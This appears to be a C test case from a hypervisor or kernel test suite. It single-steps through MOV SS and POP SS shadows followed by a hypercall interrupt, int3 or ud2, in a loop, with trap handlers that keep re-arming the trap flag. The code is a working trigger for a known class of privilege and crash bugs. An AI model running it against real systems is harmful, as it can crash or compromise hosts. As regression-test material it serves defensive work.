/* Single step in the shadow of a load of SS, with a hypercall, int3 or ud2 behind it: where other
 * kernels took a #DB on the first instruction of their own.
 *
 * ends: ready
 * emulators: qemu bochs
 */
#include "attack.h"

static void on(struct bh_trap *trap)
{
    if (trap->cause.vector == 6)
        trap->cause.eip += 2;
    trap->cause.eflags |= 0x100;
}

int main(uint32_t starts)
{
    (void)starts;
    bh_trap_handler_set(1, on);
    bh_trap_handler_set(3, on);
    bh_trap_handler_set(6, on);
    __asm__ volatile("pushfl\n\torl $0x100, (%%esp)\n\tpopfl\n"
                     "1:\txorl %%eax, %%eax\n\tmovl %%ss, %%edx\n\t"
                     "movl %%edx, %%ss\n\tint $0x82\n\t"
                     "movl %%edx, %%ss\n\tint3\n\t"
                     "pushl %%edx\n\tpopl %%ss\n\tint $0x82\n\t"
                     "pushl %%edx\n\tpopl %%ss\n\tud2\n\t"
                     "jmp 1b"
                     :
                     :
                     : "eax", "edx", "memory");
    return -1;
}
